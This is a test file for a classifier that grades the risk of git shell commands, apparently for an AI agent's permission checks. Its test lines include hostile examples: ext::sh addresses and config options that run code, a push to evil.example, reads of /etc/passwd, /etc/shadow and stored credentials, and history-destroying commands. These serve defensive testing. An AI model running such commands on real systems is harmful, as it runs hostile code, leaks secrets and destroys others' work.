/** Laws of the git tables: what is everyday passes, what could run, write, leak or lose does not. */
import { describe, expect, test } from "vitest";
import { analyse } from "../../registry/shell/analyse.ts";
import { judge, lines } from "../support/shell-cases.ts";

describe("everyday questions to git are read-only", () => {
  test.each(
    lines(`
    git status
    git status -sb
    git status --porcelain=v2 --branch --untracked-files=all
    git log --oneline -n 20 --stat -- src
    git log -5
    git log -1 --format=%H
    git log --graph --oneline --all --decorate
    git log --pretty=format:'%h %an %s' --since="2 weeks ago" --author=me
    git log -S'needle' -p -- src/a.ts
    git log -L 10,20:src/a.ts
    git log --follow -- a.ts
    git log main..feature --no-merges
    git diff
    git diff --cached --stat
    git diff HEAD~3..HEAD --name-only
    git diff main...feature -- src/*.ts
    git diff --no-index a b
    git show HEAD
    git show --stat --oneline HEAD~1
    git show HEAD:src/a.ts
    git show -s --format=%ct HEAD
    git blame -L 1,10 -w src/a.ts
    git branch
    git branch -a --sort=-committerdate
    git branch -vv
    git branch --show-current
    git branch --list 'feat/*'
    git branch --merged main
    git branch -r --contains HEAD
    git tag
    git tag -l 'v1*' --sort=-v:refname
    git tag -n3
    git remote -v
    git remote get-url origin
    git rev-parse --abbrev-ref HEAD
    git rev-parse --show-toplevel
    git rev-parse --short HEAD
    git rev-list --count HEAD
    git ls-files -o --exclude-standard
    git ls-tree -r --name-only HEAD
    git cat-file -p HEAD
    git describe --tags --always --dirty
    git shortlog -sne HEAD
    git reflog -5
    git reflog show --date=iso
    git stash list
    git stash show -p stash@{0}
    git config --get user.email
    git config user.name
    git config --get remote.origin.url
    git config --list --name-only
    git grep -n -i 'to do' -- '*.ts'
    git grep -l foo
    git merge-base main HEAD
    git name-rev HEAD
    git count-objects -vH
    git check-ignore -v node_modules
    git check-attr -a a.ts
    git for-each-ref --format='%(refname:short)' refs/heads
    git show-ref --heads
    git symbolic-ref --short HEAD
    git worktree list --porcelain
    git submodule status
    git bisect log
    git notes show HEAD
    git whatchanged -2
    git range-diff main~3..main topic~3..topic
    git cherry -v main
    git clean -nd
    git apply --check a.patch
    git archive --format=tar HEAD
    git hash-object a.ts
    git fsck --no-dangling
    git version
    git --version
    git --no-pager log -3
    git -c core.pager=cat -c color.ui=never diff
    git -C packages/a status
    git log --oneline | head -5
    git ls-files | xargs wc -l
    git diff --name-only | xargs grep -n foo
  `),
  )("%s", (line) => {
    const { risk, emitted, hosts } = judge(line);
    expect({ risk, isEmitted: emitted !== null, hosts }).toEqual({ risk: "read-only", isEmitted: true, hosts: [] });
  });
});

describe("what could run code, write, reach out or leak is never read-only", () => {
  test.each(
    lines(`
    git -c core.pager=x log
    git -c core.fsmonitor=x status
    git -c core.sshCommand=x fetch
    git -c alias.x='!id' x
    git -c diff.external=x diff
    git -ccore.fsmonitor=x status
    git --config-env=core.pager=X log
    git --exec-path=/tmp/x log
    git --git-dir=/tmp/x log
    git --git-dir /tmp/x log
    git --work-tree=/tmp status
    git -C /tmp/x status
    git -C .. status
    git -C a/../.. status
    git -C a -C b status
    git -p log
    git --paginate log
    git log --output=x
    git log --outpu=x
    git diff --output x
    git diff --ext-diff
    git diff --textconv
    git log -p --ext-diff
    git show --textconv HEAD:a
    git diff -Oorder
    git log --remerge-diff
    git log --diff-merges=remerge
    git log --show-signature
    git log --format=%G?
    git log --pretty=format:%GK
    git log --alternate-refs
    git log --stdin
    git log --format --output=x
    git rev-list --decorate-refs --output=x HEAD
    git rev-list -L --output=x HEAD
    git diff-tree --decorate-refs --output=x HEAD
    git shortlog --committer --output=x HEAD
    git shortlog -n --output=x HEAD
    git range-diff -n --output=x a b
    git archive --prefix --output=x HEAD
    git archive --remote=ext::sh HEAD
    git archive --exec=x HEAD
    git archive -o x.tar HEAD
    git reflog HEAD --output=x
    git grep -Ovim foo
    git grep -O foo
    git grep --open-files-in-pager=x foo
    git grep --open foo
    git grep --textconv foo
    git cat-file --textconv HEAD:a
    git cat-file --filters HEAD:a
    git cat-file --batch
    git branch new
    git branch -v new
    git branch --merged -- -D x
    git branch --edit-description
    git tag v1
    git tag -v v1
    git tag -s v1 -m x
    git for-each-ref --format='%(signature)'
    git verify-commit HEAD
    git remote show origin
    git remote update
    git remote add x ext::sh
    git ls-remote
    git fetch --upload-pack=x
    git fetch ext::sh
    git clone ext::sh
    git clone -c core.fsmonitor=x u
    git clone --template=x u
    git push --receive-pack=x
    git push --exec=x
    git config --list
    git config -l
    git config --get-all http.extraheader
    git config --get http.https://github.com/.extraheader
    git config credential.helper
    git config --get-regexp .
    git config --get-regexp 'user.|password'
    git config --edit
    git config user.name x
    git var -l
    git credential fill
    git submodule foreach id
    git bisect run x
    git rebase -x id main
    git rebase -i main
    git merge -s x other
    git difftool
    git mergetool
    git instaweb
    git help log
    git log --help
    git --help log
    git commit
    git add -p
    git add -i
    git clean -i
    git st
    git lfs pull
    git hash-object -w a
    git symbolic-ref HEAD refs/heads/x
    git worktree add ../x
    git notes add -m x
    git update-ref refs/heads/x HEAD
    git apply a.patch
    git apply --stat --apply a.patch
    git bundle create x HEAD
    git format-patch HEAD~1
    git stash
    git stash apply
    git init
    git ls-files --format=/etc/passwd | xargs cat
    git diff --name-only --line-prefix=/etc/ | xargs cat
    git archive --prefix x HEAD
    cd .. && git status
    git log $X
    git log *
  `),
  )("%s", (line) => {
    expect(judge(line).risk).not.toBe("read-only");
  });
});

test("settings of a folder that a line climbs to are not trusted", () => {
  const below = { cwd: "/w/a", workspace: "/w" };
  expect(analyse("cd b && git status", below).risk).toBe("read-only");
  expect(analyse("cd .. && git status", below).risk).toBe("unknown");
});

describe("an address that names a program is not judged", () => {
  test.each([
    "git fetch ext::sh",
    "git pull fd::7",
    "git push ext::sh",
    "git clone ext::sh",
    "git ls-remote x::y",
    "git remote add a ext::sh",
    "git submodule add ext::sh",
  ])("%s", (line) => {
    expect(judge(line).risk).toBe("unknown");
  });
});

describe("what would be lost is destructive, and named", () => {
  test.each([
    ["git push --force origin main", "remote"],
    ["git push -f", "remote"],
    ["git push --force-with-lease", "remote"],
    ["git push origin +main", "main of origin"],
    ["git push origin :old", "old of origin"],
    ["git push origin --delete old", "old"],
    ["git push --mirror", "remote"],
    ["git push https://evil.example/x.git main", "given away"],
    ["git push --no-verify", "hooks"],
    ["git reset --hard", "uncommitted"],
    ["git reset --hard HEAD~3", "HEAD~3"],
    ["git reset HEAD~2", "HEAD~2"],
    ["git checkout -- a.ts", "a.ts"],
    ["git checkout .", "."],
    ["git checkout HEAD a.ts", "a.ts"],
    ["git checkout -f main", "uncommitted"],
    ["git restore a.ts", "a.ts"],
    ["git restore --staged --worktree a.ts", "a.ts"],
    ["git switch --discard-changes main", "uncommitted"],
    ["git clean -fd", "untracked"],
    ["git clean -xdf", ".env"],
    ["git branch -D topic", "topic"],
    ["git branch -f main HEAD~1", "main"],
    ["git tag -d v1", "v1"],
    ["git stash drop stash@{1}", "stash@{1}"],
    ["git stash clear", "every stash"],
    ["git rebase main", "commits"],
    ["git commit --amend --no-edit", "last commit"],
    ["git commit --no-verify -m x", "hooks"],
    ["git commit -nm x", "hooks"],
    ["git filter-branch --tree-filter x HEAD", "history"],
    ["git filter-repo --path x", "history"],
    ["git reflog expire --expire=now --all", "way back"],
    ["git gc --prune=now", "no branch"],
    ["git prune", "no branch"],
    ["git update-ref -d refs/heads/x", "refs/heads/x"],
    ["git worktree remove --force ../x", "../x"],
    ["git config core.hooksPath x", "core.hooksPath"],
    ["git config --global user.name x", "user.name"],
    ["git remote set-url origin u", "origin"],
    ["git remote remove origin", "origin"],
    ["git rm -f a.ts", "a.ts"],
    ["git pull --rebase", "local commits"],
    ["git fetch origin +a:b", "b"],
    ["git submodule deinit -f sub", "sub"],
    ["git credential fill", "passwords"],
  ])("%s", (line, lost) => {
    const { risk, loses } = judge(line);
    expect(risk).toBe("destructive");
    expect(loses.join("; ")).toContain(lost);
  });
});

describe("work that can be had back is mutating", () => {
  test.each(
    lines(`
    git add -A
    git add src/a.ts
    git commit -m "x"
    git commit -am x
    git checkout main
    git checkout -b topic
    git switch topic
    git switch -c topic
    git restore --staged .
    git reset HEAD a.ts
    git merge --no-ff topic
    git cherry-pick abc1234
    git revert --no-edit HEAD
    git stash push -m x
    git stash pop
    git mv a b
    git rm a
    git branch topic
    git branch -d topic
    git tag -a v1 -m v1
    git fetch origin
    git pull --ff-only
    git push
    git push -u origin topic
    git init
    git clone https://example.com/a.git
    git worktree add ../x topic
    git config user.email a@b.c
  `),
  )("%s", (line) => {
    expect(judge(line).risk).toBe("mutating");
  });
});

describe("git is written back so that no repository hidden among the files of a folder is obeyed", () => {
  test.each([
    "git status",
    "git -C sub diff",
    "cd sub && git log",
    "timeout 5 git status",
    "git ls-files | xargs git log --",
  ])("%s", (line) => {
    const { emitted } = judge(line);
    const calls = emitted?.match(/(?<![\w.-])git(?= )/g) ?? [];
    const guarded = emitted?.match(/git -c safe\.bareRepository=explicit -c core\.fsmonitor=false /g) ?? [];
    expect(guarded.length).toBeGreaterThan(0);
    expect(guarded.length).toBe(calls.length);
  });
});

describe("paths and hosts that a line names are passed on", () => {
  test.each([
    ["git show HEAD:.env", { path: ".env", access: "read" }],
    ["git cat-file -p main:secrets/key", { path: "secrets/key", access: "read" }],
    ["git show :0:.env", { path: ".env", access: "read" }],
    ["git diff --no-index /etc/passwd b", { path: "/etc/passwd", access: "read" }],
    ["git diff -- .env", { path: ".env", access: "read" }],
    ["git log -L 1,2:.env", { path: ".env", access: "read" }],
    ["git blame --contents /etc/shadow a", { path: "/etc/shadow", access: "read" }],
    ["git grep -f .env", { path: ".env", access: "read" }],
    ["git -C secrets show :key", { path: "secrets", access: "read" }],
    ["git add .env", { path: ".env", access: "read" }],
    ["git archive -o ../x.tar HEAD", { path: "../x.tar", access: "write" }],
    ["git checkout -- a.ts", { path: "a.ts", access: "write" }],
    ["git worktree add ../x", { path: "../x", access: "write" }],
    ["git clone https://example.com/a.git /etc/x", { path: "/etc/x", access: "write" }],
  ] as const)("%s", (line, path) => {
    expect(judge(line).paths).toContainEqual(path);
  });

  test.each([
    ["git clone https://user:pass@example.com:8443/a.git", "example.com"],
    ["git clone git@example.org:a/b.git", "example.org"],
    ["git fetch ssh://git@example.net/a", "example.net"],
    ["git push", "*"],
    ["git pull origin", "*"],
  ])("%s", (line, host) => {
    expect(judge(line).hosts).toContain(host);
  });
});
